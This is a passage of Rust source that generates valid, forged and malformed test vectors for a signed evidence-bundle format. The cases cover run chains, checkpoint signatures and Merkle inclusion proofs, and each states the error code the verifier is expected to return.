                std::process::exit(1);
            }
            _ => write_file(&path, &bytes),
        }
    }
    let trust = trust_json(&[trusted(&keys.ed25519)]);
    let ctx = Ctx { keys, trust };

    let mut cases = valid_cases(&ctx);
    cases.extend(forged_cases(&ctx));
    cases.extend(negative_cases(&ctx));
    cases.extend(run_chain_cases(&ctx));

    let mut names = BTreeSet::new();
    let (mut written, mut kept, mut differing) = (0, 0, Vec::new());
    for case in &cases {
        let valid = case.expect.iter().all(|c| !c.is_error());
        assert_eq!(
            case.name.ends_with("_fail"),
            !valid,
            "{}: `_fail` marks exactly the failing cases",
            case.name
        );
        assert_eq!(case.category == Category::Valid, valid, "{}", case.name);
        assert!(
            names.insert((case.kind, case.name)),
            "duplicate {}",
            case.name
        );

        let format = case.kind.format().trim_start_matches("clyra-");
        let parent = out.join(format).join("test-vectors");
        std::fs::create_dir_all(&parent).unwrap();
        let target = parent.join(case.name);
        let staging = parent.join(format!(".{}.staging", case.name));
        if staging.exists() {
            std::fs::remove_dir_all(&staging).unwrap();
        }
        write_case(case, &staging);
        // A superseded case (spec/test-vectors-superseded.txt) is kept as published; a current
        // verifier no longer agrees with it.
        let superseded = SUPERSEDED.contains(&(case.kind, case.name));
        let checked = verify_written(case, &staging);
        if let Err(e) = if superseded { Ok(()) } else { checked } {
            std::fs::remove_dir_all(&staging).unwrap();
            panic!("{format}/{}: {e}", case.name);
        }
        if target.exists() && !force {
            if !same_tree(&staging, &target) {
                differing.push(format!("{format}/{}", case.name));
            }
            std::fs::remove_dir_all(&staging).unwrap();
            kept += 1;
            continue;
        }
        if target.exists() {
            std::fs::remove_dir_all(&target).unwrap();
        }
        std::fs::rename(&staging, &target).unwrap();
        written += 1;
        println!("wrote {format}/{}", case.name);
    }
    println!(
        "{} cases: {written} written, {kept} kept unchanged (published vectors are never overwritten)",
        cases.len()
    );
    if !differing.is_empty() {
        eprintln!(
            "warning: the generator no longer reproduces these published cases byte for byte \
             (kept as published): {}",
            differing.join(", ")
        );
    }
    if written > 0 {
        println!(
            "new files: append their lines to spec/test-vectors.lock (see spec/README.md), e.g.\n  \
             find spec/def/test-vectors spec/pef/test-vectors spec/test-vectors-keys -type f \
             | LC_ALL=C sort | xargs sha256sum > /tmp/lock && diff spec/test-vectors.lock /tmp/lock"
        );
    }
}

// ------------------------------------------------------------------------------------------------
// Format 0.2: run chains, checkpoints and inclusion proofs (bundle.md §6.1, §6.2).

/// The tenant journal: 12 entries, sealed in one hash chain; entries 1, 4, 7 and 10 belong to
/// `run-b`, the others to `run-a`. With `gap`, run-a's run_seq skips 2 (a sealing bug).
fn tenant_journal(gap: bool) -> Vec<(Value, Vec<u8>)> {
    let mut out: Vec<(Value, Vec<u8>)> = Vec::new();
    let mut head = Digest::ZERO;
    let mut runs: std::collections::BTreeMap<&str, (u64, Digest)> = Default::default();
    for seq in 0..12u64 {
        let run = if seq % 3 == 1 { "run-b" } else { "run-a" };
        let (mut run_seq, run_prev) = runs.get(run).copied().unwrap_or((0, Digest::ZERO));
        if gap && run == "run-a" && run_seq == 2 {
            run_seq = 3;
        }
        let kind = match (run, seq) {
            ("run-a", 0) => "dbt.run.started",
            ("run-a", 11) => "dbt.run.finished",
            _ => "pipeline.step.finished",
        };
        let mut entry = json!({
            "seq": seq, "prev": head.to_hex(), "ts": format!("2026-11-24T09:{:02}:00Z", seq),
            "kind": kind, "run": run, "run_seq": run_seq, "run_prev": run_prev.to_hex(),
        });
        if kind == "dbt.run.finished" {
            entry["status"] = json!("success");
        }
        let bytes = jcs::canonicalize_value(&entry).unwrap();
        head = Digest::sha256(&bytes);
        runs.insert(run, (run_seq + 1, head));
        out.push((entry, bytes));
    }
    out
}

/// The checkpoint note of the whole tenant journal, signed by `key`, and the proofs of the
/// entries at `seqs`.
fn checkpoint_for(
    journal: &[(Value, Vec<u8>)],
    seqs: &[u64],
    key: &PrivateKey,
) -> (String, Vec<clyra_evidence::merkle::InclusionProof>) {
    use clyra_evidence::{merkle, note};
    let leaves: Vec<Digest> = journal.iter().map(|(_, b)| merkle::leaf_hash(b)).collect();
    let head = Digest::sha256(&journal.last().unwrap().1);
    let cp = note::Checkpoint::clyra(
        "clyra.example/acme",
        leaves.len() as u64,
        merkle::root(&leaves),
        ts("2026-11-24T09:59:00Z"),
        head,
    );
    let text = note::sign(&cp.to_body(), "clyra.example/acme", key).unwrap();
    let proofs = seqs
        .iter()
        .map(|s| merkle::inclusion_proof(&leaves, *s).unwrap())
        .collect();
    (text, proofs)
}

fn proofs_json(root: Digest, proofs: &[clyra_evidence::merkle::InclusionProof]) -> Vec<u8> {
    use clyra_evidence::bundle::{LeafProof, ProofsDocument};
    let doc = ProofsDocument {
        tree_size: proofs[0].tree_size,
        root,
        proofs: proofs
            .iter()
            .map(|p| LeafProof {
                index: p.leaf_index,
                hashes: p.hashes.clone(),
            })
            .collect(),
    };
    jcs::to_canonical_vec(&doc).unwrap()
}

fn run_a_seqs(journal: &[(Value, Vec<u8>)]) -> Vec<u64> {
    journal
        .iter()
        .filter(|(v, _)| v["run"] == "run-a")
        .map(|(v, _)| v["seq"].as_u64().unwrap())
        .collect()
}

/// A run-a bundle of `lines` (tenant seqs) from `journal`, checkpoint signed by `note_key`.
fn run_bundle(
    journal: &[(Value, Vec<u8>)],
    seqs: &[u64],
    note_key: &PrivateKey,
    signer: &PrivateKey,
) -> Vec<u8> {
    let (note_text, proofs) = checkpoint_for(journal, seqs, note_key);
    let mut b = BundleBuilder::new(
        Kind::Def,
        "def-run-a-20261124",
        ts(CREATED_AT),
        producer(),
        Governance {
            tenant: "acme".into(),
            environment: "prod".into(),
            run_id: "run-a".into(),
            actors: vec!["airflow".into()],
        },
    );
    b.run_chain("run-a").unwrap();
    for s in seqs {
        b.push_entry(journal[*s as usize].0.clone()).unwrap();
    }
    b.checkpoint(note_text, proofs);
    b.build(&[signer as &dyn Signer]).unwrap().into_zip_bytes()
}

/// Replaces the journal lines, checkpoint and proofs of a run bundle by those of `seqs` in
/// `journal` (checkpoint signed by the trusted key), then re-signs everything.
fn reseal_run(x: &Ctx, valid: &[u8], journal: &[(Value, Vec<u8>)], seqs: &[u64]) -> Vec<u8> {
    let mut c = unzip(valid);
    let lines: Vec<Vec<u8>> = seqs
        .iter()
        .map(|s| journal[*s as usize].1.clone())
        .collect();
    set_lines(&mut c, &lines);
    let (note_text, proofs) = checkpoint_for(journal, seqs, x.ed());
    let root = clyra_evidence::merkle::root(
        &journal
            .iter()
            .map(|(_, b)| clyra_evidence::merkle::leaf_hash(b))
            .collect::<Vec<_>>(),
    );
    c.insert("checkpoint.note".into(), note_text.into_bytes());
    c.insert("proofs.json".into(), proofs_json(root, &proofs));
    repack_resigned(c, x.ed(), true)
}

fn edit_proofs(x: &Ctx, valid: &[u8], change: impl FnOnce(&mut Value)) -> Vec<u8> {
    let mut c = unzip(valid);
    let mut doc = jcs::parse_strict(&c["proofs.json"]).unwrap();
    change(&mut doc);
    c.insert("proofs.json".into(), jcs::canonicalize_value(&doc).unwrap());
    repack_resigned(c, x.ed(), false)
}

fn run_chain_cases(x: &Ctx) -> Vec<Case> {
    use Category::{Forged, Negative, Valid};
    let journal = tenant_journal(false);
    let seqs = run_a_seqs(&journal);
    let valid = run_bundle(&journal, &seqs, x.ed(), x.ed());
    let mut out = Vec::new();

    out.push(x.case(
        Kind::Def,
        "run_chain_checkpoint",
        Valid,
        &[],
        "Format 0.2: the eight entries of run `run-a` from a tenant journal of twelve in which \
         `run-b` is interleaved (seq 1, 4, 7, 10), so the bundle's seqs are not contiguous. \
         `journal.chain` is `run`: entries link over `run_seq`/`run_prev`. `checkpoint.note` is a \
         C2SP signed note of the whole tenant log (size 12, root, `time`, `head`) signed by the \
         trusted Ed25519 key, and `proofs.json` proves each line at its seq. It verifies.",
        valid.clone(),
    ));

    out.push(x.case(
        Kind::Def,
        "checkpoint_signature_tampered_fail",
        Forged,
        &[Code::CheckpointSignature],
        "The valid run chain bundle with the last byte of the checkpoint's signature flipped, the \
         manifest refreshed and re-signed with the trusted key. The signature line names the \
         trusted key (name and key ID match) but does not verify: the note is rejected, \
         `E_CHECKPOINT_SIGNATURE`.",
        {
            let mut c = unzip(&valid);
            let text = String::from_utf8(c["checkpoint.note"].clone()).unwrap();
            let (body, sig) = text.rsplit_once("\n\n").unwrap();
            let (prefix, b64) = sig.trim_end().rsplit_once(' ').unwrap();
            let mut blob = base64::engine::general_purpose::STANDARD
                .decode(b64)
                .unwrap();
            *blob.last_mut().unwrap() ^= 1;
            let forged = format!(
                "{body}\n\n{prefix} {}\n",
                base64::engine::general_purpose::STANDARD.encode(blob)
            );
            c.insert("checkpoint.note".into(), forged.into_bytes());
            repack_resigned(c, x.ed(), false)
        },
    ));

    out.push(x.case(
        Kind::Def,
        "checkpoint_untrusted_key_fail",
        Forged,
        &[Code::CheckpointSignature],
        "The run chain bundle whose checkpoint note is signed by the untrusted Ed25519 test key \
         (the bundle itself is signed by the trusted key). No signature line of the note \
         verifies under a trusted key: `E_CHECKPOINT_SIGNATURE`.",
        run_bundle(&journal, &seqs, &x.keys.untrusted.key, x.ed()),
    ));

    out.push(x.case(
        Kind::Def,
        "proof_wrong_index_fail",
        Forged,
        &[Code::InclusionProof],
        "The valid run chain bundle with the second proof's `index` set to the first line's seq, \
         re-signed. A proof's index must be its line's seq: `E_INCLUSION_PROOF`.",
        edit_proofs(x, &valid, |d| {
            d["proofs"][1]["index"] = d["proofs"][0]["index"].clone()
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "proof_hash_flipped_fail",
        Forged,
        &[Code::InclusionProof],
        "The valid run chain bundle with one bit of the first proof's first hash flipped, \
         re-signed. The proof no longer leads from the line to the checkpoint root: \
         `E_INCLUSION_PROOF`.",
        edit_proofs(x, &valid, |d| {
            let h = d["proofs"][0]["hashes"][0].as_str().unwrap().to_owned();
            let flipped = format!("{}{}", if h.starts_with('0') { '1' } else { '0' }, &h[1..]);
            d["proofs"][0]["hashes"][0] = json!(flipped);
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "proof_missing_fail",
        Forged,
        &[Code::InclusionProof],
        "The valid run chain bundle with the last line's proof removed from `proofs.json`, \
         re-signed. Every line needs exactly one proof: `E_INCLUSION_PROOF`.",
        edit_proofs(x, &valid, |d| {
            d["proofs"].as_array_mut().unwrap().pop();
        }),
    ));

    out.push(x.case(
        Kind::Def,
        "run_chain_entry_removed_fail",
        Forged,
        &[Code::ChainBroken],
        "The run chain bundle with run-a's entry at seq 5 (run_seq 3) removed, and the journal \
         summary, proofs, files, Merkle root and predicate recomputed and re-signed with the \
         trusted key. Every remaining line is proved in the checkpoint, but run_seq jumps from 2 \
         to 4 and the next run_prev is the removed entry's digest: `E_CHAIN_BROKEN`.",
        {
            let fewer: Vec<u64> = seqs.iter().copied().filter(|s| *s != 5).collect();
            reseal_run(x, &valid, &journal, &fewer)
        },
    ));

    out.push(x.case(
        Kind::Def,
        "run_seq_gap_fail",
        Forged,
        &[Code::ChainBroken],
        "A tenant journal whose sealer skipped run_seq 2 of run-a (run_prev still links), with a \
         matching checkpoint signed by the trusted key and valid proofs, the bundle re-signed. \
         run_seq must increase by one per line: `E_CHAIN_BROKEN`.",
        {
            let gap = tenant_journal(true);
            reseal_run(x, &valid, &gap, &run_a_seqs(&gap))
        },
    ));

    out.push(x.case(
        Kind::Def,
        "run_chain_other_run_entry_fail",
        Forged,
        &[Code::ChainBroken],
        "The run chain bundle with run-b's entry at seq 4 spliced in between seq 3 and 5, its \
         proof included and everything re-signed. It is in the checkpointed log, but its `run` is \
         not the manifest's `run-a`: `E_CHAIN_BROKEN`.",
        {
            let mut more = seqs.clone();
            more.push(4);
            more.sort_unstable();
            reseal_run(x, &valid, &journal, &more)
        },
    ));

    out.push(x.case(
        Kind::Def,
        "checkpoint_in_0_1_manifest_fail",
        Negative,
        &[Code::Schema],
        "The valid run chain bundle relabelled `format_version` `0.1` and re-signed. `checkpoint`, \
         `journal.chain` and `journal.run` are 0.2 members; a 0.1 manifest carrying them fails its \
         schema: `E_SCHEMA`.",
        edit(&valid, |c| {
            let mut m = manifest(c);
            m["format_version"] = json!("0.1");
            set_manifest(c, &m);
            resign(c, x.ed());
        }),
    ));

    out
}
